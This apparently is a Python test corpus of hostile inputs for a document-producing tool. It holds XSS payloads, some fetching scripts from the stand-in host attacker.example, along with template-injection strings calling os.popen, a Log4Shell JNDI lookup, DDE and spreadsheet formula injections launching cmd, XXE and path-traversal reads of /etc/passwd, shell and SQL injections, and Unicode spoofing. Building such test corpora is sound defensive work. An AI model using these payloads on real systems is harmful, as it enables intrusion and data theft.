"""The corpus of hostile texts: what somebody could type, paste or import into any field, by kind.

Every script of it would set ``window.attacked`` or open a dialog, and every address that it would fetch is at ATTACKER: a browser
that shows our pages tells both. TEXTS are single lines; BLOCKS have several; FILES are what no text file should hold.
"""

from __future__ import annotations

from itertools import product

ATTACKER = "attacker.example"
_RUN = "window.attacked=1"
_FETCH = f"https://{ATTACKER}/x"

_HTML = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</td></tr></table><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"<script/src=//{ATTACKER}/x></script>",
    f'<script src="{_FETCH}.js"></script>',
    f"<script type=module>import '{_FETCH}.js'</script>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f'<iframe src="{_FETCH}"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f'<base href="https://{ATTACKER}/">',
    f'<link rel=stylesheet href="{_FETCH}.css">',
    f'<link rel=prefetch href="{_FETCH}">',
    f'<meta http-equiv=refresh content="0;url={_FETCH}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    f"<style>@import '{_FETCH}.css';</style>",
    f"<style>body{{background:url({_FETCH})}}</style>",
    f"<div style=\"background:url('{_FETCH}')\">x</div>",
    f'<p style="position:fixed;inset:0" onmouseover="{_RUN}">x</p>',
    f'<form action="{_FETCH}"><button autofocus>Go on</button></form>',
    f'<button formaction="javascript:{_RUN}">x</button>',
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href="{_FETCH}" ping="{_FETCH}">x</a>',
    f'<area href="javascript:{_RUN}">',
    f'<math><mi//xlink:href="data:x,<script>{_RUN}</script>">',
    f"<template><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x"/></svg>',
    f'<svg><set attributeName="href" to="javascript:{_RUN}"/></svg>',
    f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<?php echo 7*7; ?>",
    "<%= 7*7 %>",
    "<?xml-stylesheet href='x'?>",
    "<noframes>",
    "<marquee>",
    "<blink>",
    "<dialog open>x</dialog>",
    "<details open ontoggle=alert(1)>",
    "<custom-element onclick=alert(1)>",
    "<p id=main><p id=content><p class=visually-hidden>",
    "<input name=token value=stolen>",
)
_EVENTS = tuple(
    template.format(event=event, run=_RUN)
    for event, template in product(
        ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "onpointerover", "ontoggle", "onscroll"),
        ("<img src=x {event}={run}>", '" {event}="{run}" autofocus x="', "' {event}='{run}' autofocus x='"),
    )
)
_SCHEMES = (
    "javascript:window.attacked=1",
    "JaVaScRiPt:window.attacked=1",
    "java\tscript:window.attacked=1",
    "\x20javascript:window.attacked=1",
    "javascript&colon;window.attacked=1",
    "&#106;avascript:window.attacked=1",
    "javascript://attacker.example/%0awindow.attacked=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.attacked=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://attacker.example/1",
    "about:blank",
    "view-source:https://attacker.example",
    "ms-word:ofe|u|https://attacker.example/x.docx",
    "search-ms:query=x&crumb=location:\\\\attacker.example\\x",
    "\\\\attacker.example\\share\\x",
    "//attacker.example/x",
    "http:javascript:window.attacked=1",
    "https:///attacker.example",
)
_LINKS = tuple(
    form.format(address=address)
    for address, form in product(
        _SCHEMES, ("[words]({address})", "<{address}>", "![picture]({address})", "[words][1] [1]: {address}")
    )
)
_LINKS_ODD = (
    f'[x](https://a.example/"onmouseover="{_RUN})',
    f"[x](https://a.example/'onmouseover='{_RUN})",
    f"[x](https://a.example/><script>{_RUN}</script>)",
    f"[<img src=x onerror={_RUN}>](https://a.example)",
    f"[x](https://a.example){{onclick={_RUN}}}",
    "[x](https://a.example/%00)",
    "[x](https://a.example/\\)",
    "[x](https://user:password@attacker.example)",
    "[https://bank.example](https://attacker.example)",
    "[x](mailto:a@b.example?subject=x&body=<script>alert(1)</script>)",
    "[x](mailto:a@b.example?attach=/etc/passwd)",
    "[x](tel:<script>alert(1)</script>)",
    "[x](tel:*#06#)",
    "[a [b](https://c.example) d](https://e.example)",
    "[x](https://a.example/" + "y" * 2200 + ")",
    "[" * 9 + "x" + "](https://a.example)" * 9,
    "![x](https://attacker.example/pixel.png)",
    f"<https://{ATTACKER}/x>",
    "https://attacker.example/%22%3E%3Cscript%3E",
    "www.attacker.example/<script>alert(1)</script>",
    "a@b.example<script>alert(1)</script>",
)
_TEMPLATES = (
    "{{ 7*7 }}", "{{7*'7'}}", "{% raw %}", "{% endraw %}", "{%raw%}{{x}}{%endraw%}", "{# hidden #}", "{#", "{{", "}}", "{%", "%}",
    "{% include '/etc/passwd' %}", "{% import os %}", "{{ config }}", "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__ }}", "{{ x|safe }}", "${7*7}", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "{7*7}", "{name}", "{0}",
    "{0.__class__}", "%s", "%(name)s", "%n%n%n%n", "$name", "${jndi:ldap://attacker.example/x}", "$(id)", "`id`", "; id", "| id",
    "&& id", "{answer}", "{number} {label}", "[[x]]", "@@x@@", "%%x%%", "~~~", "```",
)  # fmt: skip
_TYPST = (
    '#read("/etc/passwd")', '#import "@preview/tablex:0.0.8": *', '#include "/etc/passwd"', '#eval("1+1")', '#panic("x")',
    "#while true {}", "#let f(x) = f(x); #f(1)", '#link("javascript:alert(1)")[x]', '#image("/etc/passwd")', "#sys.inputs",
    "#show: it => []", "#set page(width: 0pt)", "#pagebreak()", "#context here()", "$ 1/0 $", "$x$", "= Heading", "== Heading",
    "/ Term: x", "<label>", "@label", "#[", "#{", "//", "/*", "*/", "\\u{202e}", "#metadata(1) <x>", "#v(-100cm)", "_x_", "- - - x",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1", "'=1+1", '"=1+1"', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'DDE ("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("https://attacker.example/x","words")',
    '=IMAGE("https://attacker.example/x")', '=WEBSERVICE("https://attacker.example/x")', '=IMPORTXML("https://attacker.example","//a")',
    '=IMPORTDATA("https://attacker.example/x")', '=INDIRECT("A1")', "={1;2}", "{=1+1}", "=A1:XFD1048576", "==1", "=-1", "=@A1", "＝1+1",
    "=\u00a01+1", "=1+1;=1+1", "=1/0", "#REF!", "#N/A", "#DIV/0!", "TRUE", "1e309", "1E5", "0x41", "00123", "1/2", "2026-01-01",
    "_x0041_", "_x0000_", "_xD800_", "_x005F_x0041_", "[1]Sheet1!A1", "'[https://attacker.example/x.xlsx]S'!A1", "Sheet1!A1", "&P", "&[Path]",
    '&"Arial"x', "%0A=1+1", '=rept("x",99999)',
)  # fmt: skip
_FIELDS_OF_WORD = (
    '{ INCLUDETEXT "/etc/passwd" }', '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }', '{ HYPERLINK "https://attacker.example" }',
    '{ INCLUDEPICTURE "https://attacker.example/x" }', '{ IF 1=1 "x" }', "{ MACROBUTTON x }", "«field»", "<w:p/>", "</w:t></w:r></w:p>",
    '<w:fldSimple w:instr="DDEAUTO cmd"/>', "<w:instrText>DDEAUTO</w:instrText>", "<f>1+1</f>", "</t></si></sst>", "<Relationship Target='x'/>",
)  # fmt: skip
_XML = (
    "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;", "&nbsp;", "&nosuch;", "&", "&&&&", "&#0;", "&#xD800;", "&#x110000;", "&#38;#60;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "%x;", "<!ENTITY % x SYSTEM 'https://attacker.example/x.dtd'>", "<x xmlns='y'/>",
    '<?xml version="1.0"?>', "]]>", "<!-- -- -->", "xml:space", "<a/><b></a>",
)  # fmt: skip
_PDF = (
    "(x) Tj", "/JS (app.alert(1))", "/Launch /F (cmd.exe)", "endobj", "endstream", "%%EOF", "<< /URI (x) >>", "\\(", "\\)", "\\000", "<</S/JavaScript>>",
)  # fmt: skip
_INTERVALS = (
    "' OR 1=1 --", '"; DROP TABLE answers; --', "\\", "\\\\", "\\n", "\\u0000", "\\x00", "\\*", "\\**x**", "**x", "x**", "*" * 40, "_" * 40, "[", "]", "[]()",
    "[](https://a.example)", "[x]()", "**[x](https://a.example)**", "***x***y***", "*a **b* c**", "~x~", "|a|b|", "---", "***", "\\- x", "1) x", "1. x", "0. x",
    "999. x", "2026. x", "- ", "-", "*", "•", "• • x", "undefined", "null", "None", "NaN", "true", "[object Object]", "N/A", "~", "---\x20",
)  # fmt: skip
_LIKE_STRUCTURE = (
    "6.4 Landlords must decide", "## 6.4 Extensions", "### Evidence", "### Action", "#### x", "# x", "##6.4", "\\## 6.4", "Comply: Yes", "Comply: No", "Owner: nobody",
    "Reviewed: 1 May 2026, nobody", "Accept: no-evidence, x", "What: x", "By: 31 March 2027", "Outcome: x", "\\Owner: x", "> quoted", ">> quoted", "Text: 12345678",
    "Landlord: Other Homes", "Code: housing-ombudsman-2020", "Shared answers: ../../etc", "Approved: 1 January 2026", "Evidence", "Commentary", "Yes", "No", "Action 2",
    "Evidence:", "Commentary:", "Action by 1 January 2027:", "6.4", "6.4:", "Section 6", "Provision 6.4", "Answered: Yes", "• Yes", "1. Yes", "Not applicable", "Draft",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\Windows\\x", "CON", "NUL.md", "aux", "x/../../y", "~root", "\\\\?\\C:\\x", "file.md:stream", "%2e%2e%2f",
    "....//", "section-1.md", "landlord.md", ".", "..", "x" * 300, "-rf", "--help", "@file", "*", "?", "a|b", "x\u2215y",
)  # fmt: skip
MISLEADING = (
    "\u202eseY\u202c", "a\u202eb", "\u202dx", "\u2066x\u2069", "\u2067x\u2069", "\u2068x\u2069", "\u202ax", "\u202bx", "\u2069", "\u202c\u202c", "10\u200bdays",
    "10\u200cdays", "10\u200ddays", "10\u2060days", "10\ufeffdays", "10\u00addays", "\u180ex", "\u2061x", "\u2064x", "\u3164", "\uffa0x", "\u115f\u1160x",
    "x\U000e0041\U000e0042", "N\u043e", "Y\u0435s", "\u0421omplaints", "p\u0430ypal", "\u0391BC", "c\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307x",
    "Z\u0335\u0336\u0337\u0338a\u0335\u0336\u0337\u0338l\u0335\u0336\u0337\u0338g\u0335\u0336\u0337\u0338o", "e\u20dd\u20de\u20df\u20e0", "x\u034fy",
    "no\u200bt met", "\u200e\u200fx", "\u061cx", "x\ufff9y\ufffaz\ufffb",
)  # fmt: skip
"""What an eye takes for something else."""
_SIGNS = (
    "\u0301x", "x\ufe0f", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f", "\u0627\u0644\u0634\u0643\u0648\u0649",
    "\u05e9\u05dc\u05d5\u05dd", "\ufdfa" * 3, "\ud7ff\ue000", "\ufffd", "\U0010fffd", "\U0001f1ec\U0001f1e7", "ﬁ", "Å", "A\u030a", "İ", "ß", "ſ", "K", "①", "½", "㎏",
    "\u2028x", "\u2029x", "\u0085x", "\x0bx", "\x0cx", "\u00a0", "\u00a0x\u00a0", "\u3000x", "\u2003x", "\u1680x", "x\u2011y", "x\u2010y", "\uf0b7 x", "\uf0fc",
)  # fmt: skip

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_HTML, *_EVENTS, *_LINKS, *_LINKS_ODD, *_TEMPLATES, *_TYPST, *_FORMULAS, *_FIELDS_OF_WORD, *_XML, *_PDF, *_INTERVALS,
            *_LIKE_STRUCTURE, *_PATHS, *MISLEADING, *_SIGNS,
        )
    )
)  # fmt: skip
"""Single lines, all of them different."""

CONTROL = tuple(
    f"a{chr(code)}b" for code in (0x01, 0x02, 0x07, 0x08, 0x0E, 0x1B, 0x1F, 0x7F, 0x80, 0x90, 0x9F, 0xFFFE, 0xFFFF, 0xFDD0)
)
"""Lines with a character that no document can hold: `check` refuses them."""

BLOCKS: tuple[str, ...] = (
    "\n".join("  " * i + "- x" for i in range(10_000 // 50)),
    "\n".join("  " * (i % 12) + f"{'-' if i % 3 else '1.'} x" for i in range(2_000)),
    "- x\n" * 10_000,
    "1. x\n2. y\n" * 2_000,
    "x" * 200_000,
    "word " * 40_000,
    "**x** *y* " * 5_000,
    "[x](https://a.example/y) " * 2_000,
    "<b>" * 20_000,
    "&lt;" * 20_000,
    "=1+1\n" * 500,
    "{{" * 20_000,
    "\\" * 50_000,
    "*" * 50_000,
    "[" * 50_000,
    "a@" * 20_000,
    "https://" * 10_000,
    "\u0301" * 10_000,
    "\u202e" * 10_000,
    "1.\n2.\n3.\n" * 100,
)
"""What is long or deep, each far beyond any answer."""

FILES: tuple[bytes, ...] = (
    b"\xed\xa0\x80",  # a lone surrogate, as a careless program writes it
    b"\xed\xb0\x80x",
    b"\xff\xfe",
    b"\x00",
    b"\xc0\xaf",
    b"\xf4\x90\x80\x80",
    b"\x81",
    "é".encode("latin-1"),
    ("é" * 9).encode() + b"\xe9",
    b"x" * 10_000_000,
    b"- x\n" * 2_500_000,
)
"""Bytes that stand for a whole text of a file."""
